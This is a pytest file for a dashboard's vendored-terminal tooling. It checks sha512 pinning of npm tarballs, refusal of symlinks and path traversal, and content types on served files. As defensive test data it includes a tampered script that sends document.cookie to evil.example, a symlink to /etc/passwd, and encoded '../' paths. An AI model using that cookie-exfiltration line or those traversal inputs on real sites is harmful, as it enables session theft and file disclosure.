"""The dashboard's vendored terminal: only the pinned tarballs are taken, only the files named, and the
controller serves them with their content types. Fake tarballs stand in for npm's."""

from __future__ import annotations

import base64
import hashlib
import io
import tarfile
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from corral.controller import dashboard
from tools.vendor_static import MANIFEST, Package, VendorError, vendor

FILES = {"package/lib/term.js": b"window.Term = 1;\n", "package/LICENSE": b"MIT\n"}


def tarball(files: dict[str, bytes], links: tuple[str, ...] = ()) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as archive:
        for name, data in {"package/package.json": b"{}", "package/src/big.ts": b"//", **files}.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
        for name in links:
            member = tarfile.TarInfo(name)
            member.type, member.linkname = tarfile.SYMTYPE, "/etc/passwd"
            archive.addfile(member)
    return raw.getvalue()


def pinned(data: bytes) -> Package:
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
    names = {"package/lib/term.js": "term.js", "package/LICENSE": "term.LICENSE.txt"}
    return Package("fake-term", "1.0.0", integrity, names)


def packing(data: bytes, packed: list[str]):
    def pack(package: Package, directory: Path) -> Path:
        packed.append(package.spec)
        path = directory / "fake-term-1.0.0.tgz"
        path.write_bytes(data)
        return path
    return pack


def test_the_pinned_tarball_gives_only_the_named_files_and_a_second_run_packs_nothing(tmp_path):
    data, packed = tarball(FILES), []
    assert vendor((pinned(data),), tmp_path, packing(data, packed)) is True
    assert sorted(p.name for p in tmp_path.iterdir()) == [MANIFEST, "term.LICENSE.txt", "term.js"]
    assert (tmp_path / "term.js").read_bytes() == FILES["package/lib/term.js"]
    assert vendor((pinned(data),), tmp_path, packing(data, packed)) is False
    assert packed == ["fake-term@1.0.0"]


def test_a_vendored_file_changed_by_hand_is_written_again(tmp_path):
    data, packed = tarball(FILES), []
    vendor((pinned(data),), tmp_path, packing(data, packed))
    (tmp_path / "term.js").write_text("tampered")
    assert vendor((pinned(data),), tmp_path, packing(data, packed)) is True
    assert (tmp_path / "term.js").read_bytes() == FILES["package/lib/term.js"]


def test_a_tampered_tarball_is_refused_and_nothing_is_written(tmp_path):
    package = pinned(tarball(FILES))
    tampered = tarball({**FILES, "package/lib/term.js": b"fetch('https://evil.example/' + document.cookie);\n"})
    with pytest.raises(VendorError, match=r"fake-term@1\.0\.0: the tarball's sha512 is .* not the pinned .*refused"):
        vendor((package,), tmp_path / "vendor", packing(tampered, []))
    assert not (tmp_path / "vendor").exists()


@pytest.mark.parametrize(("files", "links", "why"), [
    ({"package/LICENSE": b"MIT\n"}, (), "has no term.js"),
    ({"package/LICENSE": b"MIT\n"}, ("package/lib/term.js",), "package/lib/term.js is not a plain file"),
])
def test_a_pinned_tarball_without_a_needed_file_is_refused(tmp_path, files, links, why):
    data = tarball(files, links)
    with pytest.raises(VendorError, match=why):
        vendor((pinned(data),), tmp_path, packing(data, []))
    assert not list(tmp_path.iterdir())


def test_an_integrity_that_is_not_sha512_is_refused(tmp_path):
    data = tarball(FILES)
    weak = Package("fake-term", "1.0.0", "sha1-" + base64.b64encode(hashlib.sha1(data).digest()).decode(), {})
    with pytest.raises(VendorError, match="pin a sha512 integrity"):
        vendor((weak,), tmp_path, packing(data, []))


@pytest.fixture
def served(tmp_path, monkeypatch):
    monkeypatch.setattr(dashboard, "VENDOR", tmp_path / "vendor")
    (tmp_path / "vendor").mkdir()
    for name in ("xterm.js", "xterm.css", "xterm.LICENSE.txt", MANIFEST):
        (tmp_path / "vendor" / name).write_text("x")
    (tmp_path / "outside.js").write_text("not vendored")
    app = FastAPI()
    app.include_router(dashboard.router)
    return TestClient(app)


@pytest.mark.parametrize(("name", "content_type"), [
    ("xterm.js", "text/javascript; charset=utf-8"), ("xterm.css", "text/css; charset=utf-8"),
    ("xterm.LICENSE.txt", "text/plain; charset=utf-8"),
])
def test_vendored_files_are_served_with_their_content_type(served, name, content_type):
    response = served.get(f"/static/vendor/{name}")
    assert response.status_code == 200
    assert response.headers["content-type"] == content_type


@pytest.mark.parametrize("name", [MANIFEST, "missing.js", ".hidden.js", "..%2Foutside.js", "%2E%2E%2Foutside.js"])
def test_only_vendored_files_of_known_types_are_served(served, name):
    response = served.get(f"/static/vendor/{name}")
    assert response.status_code == 404
